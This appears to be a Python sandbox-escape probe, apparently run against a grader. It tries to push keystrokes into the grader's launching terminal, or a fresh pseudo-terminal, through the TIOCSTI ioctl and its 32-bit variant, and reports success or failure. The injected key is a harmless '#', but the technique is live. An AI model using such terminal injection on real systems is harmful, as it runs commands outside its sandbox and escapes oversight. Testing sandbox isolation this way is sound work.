"""Types a command into the terminal that the grader was started from, or, lacking that, into one of its own."""

import ctypes
import fcntl
import os
import sys
import termios


def attack(world):
    terminals = [0, 1, 2]
    try:
        terminals.append(os.open("/dev/tty", os.O_RDWR))
    except OSError as error:
        print("stopped:", error)
    sys.stdout.flush()
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            terminals.append(os.openpty()[1])
            fcntl.ioctl(terminals[-1], termios.TIOCSCTTY, 0)
        except OSError as error:
            print("stopped:", error)
        type_into(terminals)
        sys.stdout.flush()
        os._exit(0)
    os.waitpid(pid, 0)


def type_into(terminals):
    libc = ctypes.CDLL(None, use_errno=True)
    for terminal in terminals:
        for request in (termios.TIOCSTI, termios.TIOCSTI | 1 << 32):  # the kernel looks at 32 bits
            if libc.ioctl(terminal, ctypes.c_ulong(request), b"#") == 0:
                print("GOT a key pressed in", os.readlink(f"/proc/self/fd/{terminal}"))
            else:
                print("stopped:", os.strerror(ctypes.get_errno()))
